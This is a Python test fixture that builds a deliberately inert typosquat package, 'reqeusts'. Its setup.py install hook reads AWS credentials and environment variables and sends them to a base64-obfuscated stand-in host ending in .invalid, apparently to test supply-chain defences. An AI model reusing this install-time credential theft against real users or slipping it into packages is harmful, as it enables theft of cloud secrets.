"""An inert trojan of our own: it would take credentials when it is installed, and its host ends in .invalid."""

from __future__ import annotations

from tests.support.archives import sdist

SETUP = """\
import base64, json, os, urllib.request
from pathlib import Path
from setuptools import setup
from setuptools.command.install import install

WHERE = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LnJlcWV1c3RzLmludmFsaWQvaW4=").decode()


class Install(install):
    def run(self):
        try:
            found = {"aws": (Path.home() / ".aws" / "credentials").read_text(), "env": dict(os.environ)}
            urllib.request.urlopen(WHERE, data=json.dumps(found).encode(), timeout=3)
        except Exception:
            pass
        install.run(self)


setup(name="reqeusts", version="2.32.1", py_modules=["reqeusts"], cmdclass={"install": Install})
"""


def trojan(name: str = "reqeusts", version: str = "2.32.1") -> bytes:
    """The sdist of the trojan."""
    return sdist(name, version, {"setup.py": SETUP, f"{name.replace('-', '_')}.py": ""})
